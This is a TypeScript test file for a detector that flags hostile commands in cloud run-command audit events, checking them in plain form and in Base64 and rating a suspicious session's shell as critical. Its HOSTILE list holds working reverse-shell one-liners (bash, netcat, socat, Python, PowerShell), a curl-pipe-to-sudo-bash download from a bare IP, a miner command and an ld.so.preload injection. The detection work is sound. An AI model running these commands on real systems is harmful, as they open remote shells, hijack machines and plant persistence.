import fc from 'fast-check';
import { parseAuditEvent } from '../../../shared/evidence/event';
import { carriesHostileScript } from '../../../shared/findings/commands';
import { anEvent, anOrdinaryPast, assume, speaking } from './account';
import { high, ids, look } from './look';

const run = (CommandContent: string) => ({ service: 'Ecs', name: 'RunCommand', request: { CommandContent } });
const isHostile = (text: string) => carriesHostileScript(parseAuditEvent(anEvent({ minute: 1, ...run(text) })));
const base64 = (text: string) => Buffer.from(text).toString('base64');

const HOSTILE: readonly [string, string][] = [
  ['a shell led into the network', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'],
  ['… by a descriptor', '0<&196;exec 196<>/dev/tcp/203.0.113.9/443; sh <&196 >&196 2>&196'],
  ['… by netcat', 'nc 203.0.113.9 443 -e /bin/bash'],
  ['… by a pipe and netcat', 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 443 >/tmp/f'],
  ['… by socat', 'socat TCP:203.0.113.9:443 EXEC:/bin/bash,pty'],
  [
    '… by Python',
    'python3 -c \'import socket,os;s=socket.socket();s.connect(("203.0.113.9",443));os.dup2(s.fileno(),0)\'',
  ],
  ['… by PowerShell', '$c=New-Object System.Net.Sockets.TCPClient("203.0.113.9",443); iex $d'],
  ['a script from a bare public address', 'curl -fsSL http://203.0.113.9:8080/i.sh | sudo bash'],
  ['a mining pool', './sysupdate -o stratum+tcp://pool.example:3333 -u 4x'],
  ['a library for every program', 'echo /usr/lib/libx.so > /etc/ld.so.preload'],
];
const ORDINARY: readonly [string, string][] = [
  ['a restart', 'systemctl restart app'],
  ['a port that is probed', "timeout 1 bash -c '</dev/tcp/10.0.0.5/3306' && echo open"],
  ['an installer from a named host', 'curl -fsSL https://get.docker.com | sh'],
  ['an installer from the own network', 'wget -qO- http://10.0.3.7/agent/install.sh | bash'],
  ['an installer from the metadata address', 'curl -s http://100.100.100.200/latest/user-data | sh'],
  ['a download for later', 'curl -o /tmp/app.tar.gz http://203.0.113.9/app.tar.gz'],
  ['netcat that looks whether a port is open', 'nc -zv db.internal 3306'],
  ['a masked text', '****'],
];

test.each(HOSTILE)('hostile, plain or in Base64: %s', (_, text) => {
  expect([isHostile(text), isHostile(base64(text))]).toEqual([true, true]);
});

test.each(ORDINARY)('ordinary: %s', (_, text) => {
  expect([isHostile(text), isHostile(base64(text))]).toEqual([false, false]);
});

test('whatever stands in a command is read without an error', () => {
  fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => typeof isHostile(text) === 'boolean'));
});

const COMMANDS = Array.from({ length: 20 }, (_, i) =>
  anEvent({ minute: (i * 2 - 40) * 1440, ...run(base64('systemctl restart app')) }),
);

test("a key that runs commands for its work: a shell led outside by a session on the business's own machine is the attack's", () => {
  const opened = anEvent({ minute: -90, ...assume('deploy', 'STS.Quiet') });
  const shell = anEvent({ minute: -88, ...run(base64(HOSTILE[0]?.[1] ?? '')), ...speaking('deploy', 'STS.Quiet') });
  const seen = look([...anOrdinaryPast(), ...COMMANDS, opened, shell]);
  expect(high(seen)).toMatchObject([{ rule: 'command-run', severity: 'critical', actors: ['STS.Quiet'] }]);
  expect(high(seen)[0]?.eventIds).toEqual([shell['eventId']]);
  expect(ids(seen)).toContain('STS.Quiet');
});

test('… and its usual commands stay its work', () => {
  const usual = anEvent({ minute: -88, ...run(base64('systemctl restart web')) });
  expect(high(look([...anOrdinaryPast(), ...COMMANDS, usual]))).toEqual([]);
});
